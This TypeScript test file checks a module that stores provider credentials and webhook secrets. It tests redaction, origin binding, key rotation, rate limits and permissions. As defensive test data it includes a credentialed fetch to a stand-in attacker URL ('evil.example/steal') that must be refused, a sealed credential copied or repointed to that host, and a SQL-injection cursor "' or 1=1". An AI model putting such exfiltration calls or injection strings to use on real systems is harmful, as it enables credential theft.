import { randomBytes } from 'node:crypto';
import { eq, sql } from 'drizzle-orm';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Actor } from '@/lib/auth/actor';
import type { Database } from '@/lib/db/client';
import { audit, connections, events, inbox, quotas } from '@/lib/db/schema';
import { fakeProvider, openTestDatabase, personActor, testContext } from '@/lib/db/testing/context';
import { makeDeployment, makeTarget } from '@/lib/db/testing/factories';
import { systemClock } from '@/lib/kernel/clock';
import { newId } from '@/lib/kernel/ids';
import { ProviderError } from '@/lib/providers/port';
import { providers } from '@/lib/providers/registry.generated';
import {
  createConnection,
  createKeyRing,
  endWebhookRotation,
  getConnection,
  listConnections,
  listDeliveries,
  openConnection,
  removeConnection,
  rewrapSecrets,
  setBudget,
  setCredential,
  setWebhookSecret,
  updateConnection,
  verifyConnection,
  webhookSecrets,
} from '.';

const CANARY = `gh${'p_'}${'Qw8e'.repeat(9)}`;
const HOOK_CANARY = 'hook-canary-0123456789';
const providerId = Object.values(providers).find(({ methods }) => methods.workflows)?.manifest.id ?? '';
const settings = { keys: createKeyRing(randomBytes(32)), allowLoopbackHttp: true };
const admin = personActor([{ role: 'admin', environmentPattern: '*' }]);
const viewer = personActor([{ role: 'viewer', environmentPattern: 'staging' }]);

let database: Database;
beforeEach(async () => {
  database = await openTestDatabase();
});
afterEach(() => database.close());

const as = (actor: Actor) => testContext(database.db, { actor });
const make = (name = 'Main account') =>
  createConnection(as(admin), { name, providerId, credential: { kind: 'token', token: CANARY } }, settings);
const deps = (over: object = {}) => ({ db: database.db, clock: systemClock, keys: settings.keys, ...over });
const rowOf = async (id: string) => (await database.db.select().from(connections).where(eq(connections.id, id)))[0];

async function everythingStored(): Promise<string> {
  const tables = await Promise.all(
    [connections, audit, events, quotas].map((table) => database.db.select().from(table)),
  );
  return JSON.stringify(tables);
}

describe('connections', () => {
  test('a credential goes in, opens for the provider call, and is in no view, row, audit line or event', async () => {
    const { id } = await make();
    const opened = await openConnection(deps(), id);
    expect(opened.context.credential.kind === 'token' && opened.context.credential.token.reveal()).toBe(CANARY);
    expect(opened.context.origin).toBe(providers[providerId]?.manifest.defaultOrigin);
    await setWebhookSecret(as(admin), { id, secret: HOOK_CANARY }, settings);
    const shown = JSON.stringify([await listConnections(as(viewer)), await getConnection(as(viewer), { id })]);
    const stored = await everythingStored();
    for (const text of [shown, stored, JSON.stringify(opened)]) {
      expect(text).not.toContain(CANARY);
      expect(text).not.toContain(HOOK_CANARY);
    }
    expect(shown).toContain(CANARY.slice(-4));
    expect(shown).not.toContain('v1.');
    expect((await database.db.select().from(audit)).map((row) => row.action)).toEqual([
      'connection.create',
      'connection.set-webhook-secret',
    ]);
  });

  test('another address wipes every secret; another name keeps them', async () => {
    const { id } = await make();
    await setWebhookSecret(as(admin), { id, secret: HOOK_CANARY }, settings);
    const origin = providers[providerId]?.manifest.defaultOrigin ?? '';
    const renamed = await updateConnection(as(admin), { id, version: 2, name: 'Renamed', origin }, settings);
    expect(renamed).toEqual({ version: 3, credentialWiped: false });
    const moved = await updateConnection(
      as(admin),
      { id, version: 3, name: 'Renamed', origin: 'https://ghe.team.dev/api/v3' },
      settings,
    );
    expect(moved.credentialWiped).toBe(true);
    expect(await rowOf(id)).toMatchObject({
      sealedCredential: null,
      sealedWebhookSecret: null,
      state: 'unchecked',
      credentialLast4: '',
    });
    await expect(openConnection(deps(), id)).rejects.toMatchObject({ code: 'credential_missing' });
  });

  test('a sealed credential copied to another row, or kept under a repointed address, does not open', async () => {
    const one = await make('One');
    const two = await make('Two');
    const stolen = (await rowOf(one.id))?.sealedCredential ?? null;
    await database.db.update(connections).set({ sealedCredential: stolen }).where(eq(connections.id, two.id));
    await expect(openConnection(deps(), two.id)).rejects.toMatchObject({ code: 'credential_unreadable' });
    await database.db.update(connections).set({ origin: 'https://evil.example' }).where(eq(connections.id, one.id));
    await expect(openConnection(deps(), one.id)).rejects.toMatchObject({ code: 'credential_unreadable' });
    await expect(openConnection(deps({ keys: createKeyRing(randomBytes(32)) }), one.id)).rejects.toMatchObject({
      code: 'kek_missing',
    });
  });

  test('the credential travels to its own address only', async () => {
    const { id } = await make();
    const asked: string[] = [];
    const fetch = async (input: RequestInfo | URL) => {
      asked.push(new Request(input).url);
      return new Response('{}');
    };
    const { context } = await openConnection(deps({ fetch }), id);
    await context.fetch(`${context.origin}/user`);
    await expect(context.fetch('https://evil.example/steal')).rejects.toMatchObject({ code: 'origin_refused' });
    expect(asked).toEqual([`${context.origin}/user`]);
  });

  test('rate-limit figures are kept, and a pause that one process was asked for holds for the next', async () => {
    const { id } = await make();
    const reset = Math.floor(Date.now() / 1000) + 600;
    const headers = {
      'x-ratelimit-limit': '5000',
      'x-ratelimit-remaining': '4321',
      'x-ratelimit-reset': String(reset),
      'x-ratelimit-resource': 'core',
    };
    const { context } = await openConnection(deps({ fetch: async () => new Response('{}', { headers }) }), id);
    await context.fetch(`${context.origin}/user`);
    await expect
      .poll(async () => (await getConnection(as(viewer), { id })).quotas)
      .toMatchObject([{ resource: 'core', limit: 5000, remaining: 4321, blockedUntil: null }]);
    await database.db.update(quotas).set({ blockedUntil: sql`now() + interval '5 minutes'` });
    const later = await openConnection(deps({ fetch: async () => new Response('{}') }), id);
    await expect(later.context.fetch(`${context.origin}/user`)).rejects.toMatchObject({ code: 'rate_limited' });
  });

  test('a check keeps what the provider said, good or bad; an outage says nothing about the credential', async () => {
    const { id } = await make();
    const say = (verifyCredential: ReturnType<typeof fakeProvider>['verifyCredential']) =>
      verifyConnection(testContext(database.db, { actor: admin, provider: { ...fakeProvider(), verifyCredential } }), {
        id,
      });
    await say(async () => ({ ok: true, account: 'octo', scopes: ['repo'], problems: [], expiresAt: null }));
    expect(await rowOf(id)).toMatchObject({ state: 'ok', report: { account: 'octo' } });
    await say(async () => {
      throw new ProviderError('auth', 'bad_credentials', `The token ${CANARY} has expired. Enter a new one.`);
    });
    expect(await getConnection(as(viewer), { id })).toMatchObject({
      state: 'failing',
      problem: 'The token [redacted] has expired. Enter a new one.',
    });
    const down = say(async () => {
      throw new ProviderError('unavailable', 'down', 'The provider is down.');
    });
    await expect(down).rejects.toMatchObject({ code: 'down' });
    expect(await rowOf(id)).toMatchObject({ state: 'failing' });
    expect((await database.db.select().from(audit).orderBy(audit.id)).map((row) => [row.action, row.outcome])).toEqual([
      ['connection.create', 'done'],
      ['connection.verify', 'done'],
      ['connection.verify', 'failed'],
    ]);
  });

  test('a new credential replaces the old one and forgets what was known of it', async () => {
    const { id } = await make();
    const fresh = `gh${'p_'}${'Nw1x'.repeat(9)}`;
    expect(await setCredential(as(admin), { id, credential: { kind: 'token', token: fresh } }, settings)).toEqual({
      last4: 'Nw1x',
    });
    const opened = await openConnection(deps(), id);
    expect(opened.context.credential.kind === 'token' && opened.context.credential.token.reveal()).toBe(fresh);
    expect(await rowOf(id)).toMatchObject({ state: 'unchecked', report: null });
  });

  test('what was read is remembered through another name, budget and key, and forgotten with the credential', async () => {
    const { id } = await make();
    const known: (string | null)[] = [];
    const fetch = async (input: RequestInfo | URL) => {
      known.push(new Request(input).headers.get('if-none-match'));
      return new Response('{}', { headers: { etag: '"1"' } });
    };
    const rotated = createKeyRing(randomBytes(32));
    const read = async (keys = rotated) => {
      const { context } = await openConnection(deps({ fetch, keys }), id);
      await context.fetch(`${context.origin}/user`);
    };
    await read(settings.keys);
    const origin = providers[providerId]?.manifest.defaultOrigin ?? '';
    await updateConnection(as(admin), { id, version: 1, name: 'Renamed', origin }, settings);
    await setBudget(as(admin), { id, percent: 30 });
    await rewrapSecrets(database.db, { ...rotated, previous: settings.keys.current });
    await read();
    await setCredential(
      as(admin),
      { id, credential: { kind: 'token', token: CANARY } },
      { ...settings, keys: rotated },
    );
    await read();
    expect(known).toEqual([null, '"1"', null]);
  });

  test('webhook secrets: two count while rotating, one afterwards, none of another provider', async () => {
    const { id } = await make();
    await setWebhookSecret(as(admin), { id, secret: HOOK_CANARY }, settings);
    const made = await setWebhookSecret(as(admin), { id }, settings);
    const reveal = async () =>
      (await webhookSecrets(deps(), providerId)).flatMap((each) => each.secrets.map((secret) => secret.reveal()));
    expect(await reveal()).toEqual([made.secret, HOOK_CANARY]);
    await endWebhookRotation(as(admin), { id });
    expect(await reveal()).toEqual([made.secret]);
    expect(await webhookSecrets(deps(), 'another')).toEqual([]);
    expect(await webhookSecrets(deps({ keys: createKeyRing(randomBytes(32)) }), providerId)).toEqual([]);
  });

  test('a new key takes over all secrets, may be run twice, and counts what nobody can open', async () => {
    const { id } = await make();
    const lost = await make('Lost');
    await setWebhookSecret(as(admin), { id, secret: HOOK_CANARY }, settings);
    await database.db.update(connections).set({ sealedCredential: 'v1.tampered' }).where(eq(connections.id, lost.id));
    const [oldKey, newKey] = [settings.keys.current.key, randomBytes(32)];
    const rotated = createKeyRing(newKey, oldKey);
    expect(await rewrapSecrets(database.db, rotated)).toEqual({ moved: 2, unreadable: 1 });
    expect(await rewrapSecrets(database.db, rotated)).toEqual({ moved: 0, unreadable: 1 });
    const opened = await openConnection(deps({ keys: createKeyRing(newKey) }), id);
    expect(opened.context.credential.kind === 'token' && opened.context.credential.token.reveal()).toBe(CANARY);
  });

  test('is not removed while a target uses it, nor when somebody changed it meanwhile', async () => {
    const { id } = await make();
    const row = await rowOf(id);
    await makeTarget(database.db, { connection: { id } });
    await expect(removeConnection(as(admin), { id, version: 1 })).rejects.toMatchObject({ code: 'connection_in_use' });
    expect((await getConnection(as(admin), { id })).usedBy).toHaveLength(1);
    expect(await getConnection(as(viewer), { id }), 'of an environment that is not theirs').toMatchObject({
      usedBy: [],
      targets: 1,
    });
    await database.db.execute(sql`delete from targets`);
    await expect(removeConnection(as(admin), { id, version: (row?.version ?? 0) + 1 })).rejects.toMatchObject({
      code: 'changed_meanwhile',
    });
    await removeConnection(as(admin), { id, version: 1 });
    expect(await rowOf(id)).toBeUndefined();
    await expect(getConnection(as(viewer), { id })).rejects.toMatchObject({ kind: 'notFound' });
  });

  test('is not removed while a run that it started is on its way, wherever its target points by now', async () => {
    const { id } = await make();
    const target = await makeTarget(database.db);
    const { id: deploymentId } = await makeDeployment(database.db, target, 'building', { connectionId: id });
    await expect(removeConnection(as(admin), { id, version: 1 })).rejects.toMatchObject({ code: 'connection_busy' });
    await database.db.execute(
      sql`update deployments set status = 'failed', deadline_at = null, next_check_at = null where id = ${deploymentId}`,
    );
    await removeConnection(as(admin), { id, version: 1 });
  });

  test('only an administrator changes them, and a name is used once', async () => {
    const operator = as(personActor([{ role: 'operator', environmentPattern: '*' }]));
    const input = { name: 'X', providerId, credential: { kind: 'token', token: CANARY } } as const;
    await expect(createConnection(operator, input, settings)).rejects.toMatchObject({ kind: 'forbidden' });
    await make();
    await expect(make()).rejects.toMatchObject({ code: 'name_taken' });
    await expect(createConnection(as(admin), { ...input, providerId: 'constructor' }, settings)).rejects.toMatchObject({
      code: 'provider_unknown',
    });
  });

  test('deliveries come newest first, page by page', async () => {
    const { id } = await make();
    for (let i = 0; i < 5; i++) {
      const values = {
        id: newId('hook', 1_700_000_000_000 + i),
        connectionId: id,
        providerId,
        deliveryId: `d${i}`,
        event: 'push',
        bytes: 2,
        body: Buffer.from('{}'),
        state: 'processed',
      } as const;
      await database.db.insert(inbox).values(values);
    }
    const first = await listDeliveries(as(viewer), { connectionId: id, limit: 3 });
    expect(first.rows.map((row) => row.deliveryId)).toEqual(['d4', 'd3', 'd2']);
    const rest = await listDeliveries(as(viewer), { connectionId: id, limit: 3, cursor: first.nextCursor ?? '' });
    expect(rest).toMatchObject({ rows: [{ deliveryId: 'd1' }, { deliveryId: 'd0' }], nextCursor: null });
    await expect(listDeliveries(as(viewer), { connectionId: id, limit: 3, cursor: "' or 1=1" })).rejects.toMatchObject({
      code: 'cursor_invalid',
    });
    expect((await getConnection(as(viewer), { id })).webhook.deliveries.received).toBe(5);
  });
});
